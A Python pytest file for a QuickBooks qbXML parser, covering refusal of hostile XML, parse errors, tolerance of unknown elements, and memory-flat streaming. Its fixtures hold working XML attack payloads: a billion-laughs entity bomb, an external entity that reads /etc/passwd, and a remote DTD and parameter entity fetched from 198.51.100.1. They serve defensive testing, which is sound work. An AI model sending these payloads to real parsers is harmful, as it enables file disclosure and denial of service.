"""The parser reads whatever QuickBooks sends, refuses hostile documents, and streams big ones."""
from __future__ import annotations

import tracemalloc

import pytest

from qbwc_bridge.backends.desktop.qbxml import QbxmlParseError, iter_response_records, parse_response
from qbwc_bridge.backends.desktop.status import Outcome


def _document(body: str) -> str:
    return f'<?xml version="1.0" ?><QBXML><QBXMLMsgsRs>{body}</QBXMLMsgsRs></QBXML>'


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE QBXML [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<QBXML><QBXMLMsgsRs><ItemQueryRs statusCode="0"><ItemServiceRet><Name>&lol9;</Name></ItemServiceRet></ItemQueryRs></QBXMLMsgsRs></QBXML>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE QBXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<QBXML><QBXMLMsgsRs><ItemQueryRs statusCode="0"><ItemServiceRet><Name>&secret;</Name></ItemServiceRet></ItemQueryRs></QBXMLMsgsRs></QBXML>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE QBXML [<!ENTITY % remote SYSTEM "http://198.51.100.1/evil.dtd"> %remote;]>
<QBXML><QBXMLMsgsRs/></QBXML>"""
EXTERNAL_DTD = """<?xml version="1.0"?><!DOCTYPE QBXML SYSTEM "http://198.51.100.1/qbxml.dtd"><QBXML><QBXMLMsgsRs/></QBXML>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"])  # fmt: skip
def test_hostile_documents_are_refused(document):
    with pytest.raises(QbxmlParseError) as caught:
        parse_response(document)
    assert "root:" not in str(caught.value)  # /etc/passwd never read into the message


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        ("", "not well-formed|empty"),
        ("<QBXML><QBXMLMsgsRs>", "not well-formed"),
        (_document("<ItemQueryRs statusCode='0'><Name>&nbsp;</Name></ItemQueryRs>"), "not well-formed"),
        ("<html><body>Proxy error</body></html>", "not <QBXML>"),
        (_document("<ItemQueryRs statusSeverity='Info'/>"), "without a status code"),
    ],
)
def test_unreadable_answers_raise_a_plain_parse_error(document, reason):
    with pytest.raises(QbxmlParseError, match=reason):
        parse_response(document)


def test_a_giant_text_node_is_refused_without_huge_tree():
    document = _document(f"<ItemQueryRs statusCode='0'><ItemServiceRet><Name>{'x' * 10_000_001}</Name></ItemServiceRet></ItemQueryRs>")
    with pytest.raises(QbxmlParseError):
        parse_response(document)


def test_unknown_elements_enums_and_rs_types_are_kept_not_fatal():
    (unknown_rs, item) = parse_response(_document(
        "<FutureThingQueryRs requestID='7' statusCode='0' statusSeverity='Info' statusMessage='Status OK' retCount='1'>"
        "<FutureThingRet><Shiny>yes</Shiny></FutureThingRet></FutureThingQueryRs>"
        "<ItemQueryRs requestID='8' statusCode='0' statusSeverity='Info' statusMessage='Status OK' newAttribute='x'>"
        "<ItemServiceRet><Name>Svc</Name><JobStatus>Levitating</JobStatus><Hologram><Depth>3</Depth></Hologram>"
        "<Tag>a</Tag><Tag>b</Tag><Tag>c</Tag><DataExtRet><DataExtName>Colour</DataExtName></DataExtRet>"
        "<Memo/></ItemServiceRet></ItemQueryRs>"
    ))  # fmt: skip
    assert unknown_rs.rs_type == "FutureThingQueryRs" and unknown_rs.records[0].get("Shiny") == "yes"
    record = item.records[0]
    assert record.get("JobStatus") == "Levitating"
    assert record.get("Hologram.Depth") == "3"
    assert record.get("Tag") == ["a", "b", "c"]  # repeated anyway: a list
    assert record.get("DataExtRet") == [{"DataExtName": "Colour"}]  # repeatable per the XSD: always a list
    assert record.get("Memo") == ""
    assert record.get("Nope.Deeper", "absent") == "absent"


def test_iterator_state_and_non_rs_children():
    (response,) = parse_response(_document(
        "<ErrorRecovery><ListID>1</ListID></ErrorRecovery>"
        "<CustomerQueryRs requestID='q' statusCode='0' statusSeverity='Info' statusMessage='Status OK' "
        "iteratorRemainingCount='18' iteratorID='{eb05f701-e727-472f-8ade-6753c4f67a46}'>"
        "<CustomerRet><ListID>110000-1232697602</ListID></CustomerRet></CustomerQueryRs>"
    ))  # fmt: skip
    assert response.iterator_id == "{eb05f701-e727-472f-8ade-6753c4f67a46}"
    assert response.iterator_remaining_count == 18
    (response,) = parse_response(_document("<ItemQueryRs statusCode='0' iteratorRemainingCount='lots'/>"))
    assert response.iterator_remaining_count is None


def test_a_non_numeric_money_field_is_reported_not_guessed():
    (response,) = parse_response(_document("<ItemQueryRs statusCode='0'><ItemServiceRet><Price>n/a</Price></ItemServiceRet></ItemQueryRs>"))
    with pytest.raises(QbxmlParseError, match="not a number"):
        response.records[0].decimal("Price")


def _item_query_rs(count: int) -> bytes:
    items = "".join(
        f"<ItemInventoryRet><ListID>{n:08X}-1415713663</ListID><EditSequence>1</EditSequence>"
        f"<Name>ITEM-{n}</Name><SalesDesc>{'Long description ' * 10}</SalesDesc><SalesPrice>9.99</SalesPrice>"
        f"<IncomeAccountRef><ListID>8000001A-1</ListID><FullName>Sales</FullName></IncomeAccountRef></ItemInventoryRet>"
        for n in range(count)
    )
    return _document(
        f"<ItemQueryRs requestID='page-1' statusCode='0' statusSeverity='Info' statusMessage='Status OK' "
        f"iteratorRemainingCount='0' iteratorID='{{x}}'>{items}</ItemQueryRs>"
        "<TermsQueryRs requestID='terms' statusCode='1' statusSeverity='Info' statusMessage='none'/>"
    ).encode()


def test_streaming_yields_each_record_with_its_response_and_empty_responses_once():
    pairs = list(iter_response_records(_item_query_rs(3)))
    assert [(h.request_id, r.get("Name") if r else None) for h, r in pairs] == [
        ("page-1", "ITEM-0"), ("page-1", "ITEM-1"), ("page-1", "ITEM-2"), ("terms", None)
    ]  # fmt: skip
    assert pairs[0][0].records == [] and pairs[-1][0].status.outcome is Outcome.EMPTY


def test_streaming_a_big_query_keeps_python_memory_flat():
    document = _item_query_rs(20_000)  # ~7 MB
    tracemalloc.start()
    try:
        count = sum(1 for _header, record in iter_response_records(document) if record is not None)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 20_000
    assert peak < 2_000_000, f"peak Python memory {peak} bytes: records are being kept"
